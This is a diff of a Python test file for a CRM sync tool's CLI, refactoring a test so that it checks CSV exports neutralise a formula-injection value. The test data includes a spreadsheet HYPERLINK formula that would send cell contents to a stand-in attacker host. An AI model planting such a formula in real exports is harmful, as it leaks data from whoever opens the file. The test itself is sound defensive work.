@@ -9,9 +9,6 @@ from __future__ import annotations
 
 import csv
 import io
-import os
-import subprocess
-import sys
 
 import pytest
 from sqlalchemy import update
@@ -19,7 +16,8 @@ from sqlalchemy import update
 from crm_perf_sync.kit.db import session_scope
 from crm_perf_sync.models import Owner
 from tests.api.conftest import Served
-from tests.conftest import DATA_DIR, REPO_ROOT
+from tests.cli_inprocess import invoke
+from tests.conftest import DATA_DIR
 
 EVIL = '=HYPERLINK("http://evil.example/?x="&A1;"Moses")'
 OWNER = "maven:Moses Frase"
@@ -62,22 +60,12 @@ def test_negative_numbers_stay_numbers(evil: Served) -> None:
 
 def test_the_clis_csv_neutralises_the_formula(evil: Served) -> None:
     env = {
-        **os.environ,
         "CRM_DATA_DIR": str(DATA_DIR),
         "CRM_PERF_SYNC_DATABASE_URL": evil.engine.url.render_as_string(hide_password=False),
         "CRM_PERF_SYNC_CONFIG": str(evil.config.path),
     }
-    command = ["values", "won_revenue", "--grain", "all", "--scope", "owner", "--format", "csv"]
-    shown = subprocess.run(
-        [sys.executable, "-c", "from crm_perf_sync.cli import main; main()", *command],
-        capture_output=True,
-        text=True,
-        cwd=REPO_ROOT,
-        env=env,
-        timeout=300,
-        check=False,
-    )
-    assert shown.returncode == 0, shown.stderr
+    shown = invoke("values", "won_revenue", "--grain", "all", "--scope", "owner", "--format", "csv", env=env)
+    assert shown.exit_code == 0, shown.stderr
     written = rows(shown.stdout)
     assert next(v for v in written if v["scope_id"] == OWNER)["scope_name"] == "'" + EVIL
     assert all(float(v["value"]) > 0 for v in written)  # numbers are written as numbers
